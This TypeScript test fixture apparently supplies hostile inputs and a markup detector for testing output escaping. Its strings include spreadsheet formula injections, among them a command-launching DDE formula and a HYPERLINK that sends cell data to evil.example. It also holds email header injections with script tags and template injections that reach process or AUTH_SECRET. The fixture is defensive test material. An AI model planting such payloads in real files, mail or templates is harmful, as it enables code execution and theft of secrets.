import { HOSTILE_POSTS } from '@tripwright/domain/base/hostile-markdown'

const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '  ='].flatMap((sign) =>
  [
    'cmd|"/c calc"!A1',
    'HYPERLINK("https://evil.example?"&A1,"x")',
    '1+1',
    'IMPORTXML("//evil.example","//a")',
    'SUM(1,2)\n=2',
  ].map((rest) => `${sign}${rest}`),
)
const HEADERS = ['\r\n', '\n', '\r', '\u2028', '%0d%0a'].flatMap((end) =>
  ['Bcc: evil@example.org', 'Subject: Win', 'Content-Type: text/html', 'Set-Cookie: session=1'].map(
    (header) => `Hello${end}${header}${end}${end}<script>alert(1)</script>`,
  ),
)
const TEMPLATES = [
  '{subject}',
  '{email}',
  '{name}',
  '{agent}',
  '{reason}',
  '{title}',
  '{{name}}',
  '{{unsubscribe}}',
  '{{7*7}}',
  '{{constructor.constructor("return process")()}}',
  '$' + '{process.env.AUTH_SECRET}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{at, date, medium}',
  '{count, plural, other {#}}',
  '{count, select, other {',
  '%s%s%n',
  '$& $1 $`',
  '__proto__',
  '\\u003cscript\\u003e',
]

/** Two hundred texts that would be markup, a formula, a header or a template if a place that shows them took them so. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HOSTILE_POSTS.filter((_, at) => at % 5 < 3),
  ...FORMULAS,
  ...HEADERS,
  ...TEMPLATES,
]

/** What an attribute or an element of a page or mail would need to run something; empty for a harmless one. */
export function findMarkup(html: string): string[] {
  const tags = html.match(/<\/?[a-z][^>]*>/gi) ?? []
  return tags.filter(
    (tag) =>
      /^<\/?(script|iframe|svg|math|object|embed|form|input|base|details|video|audio)\b/i.test(tag) ||
      /\son\w+\s*=/i.test(tag.replaceAll(/"[^"]*"/g, '""')) ||
      /(href|src|action)="\s*(javascript|data|vbscript|blob):/i.test(tag) ||
      /^<img\b(?![^>]*src="https?:)/i.test(tag),
  )
}
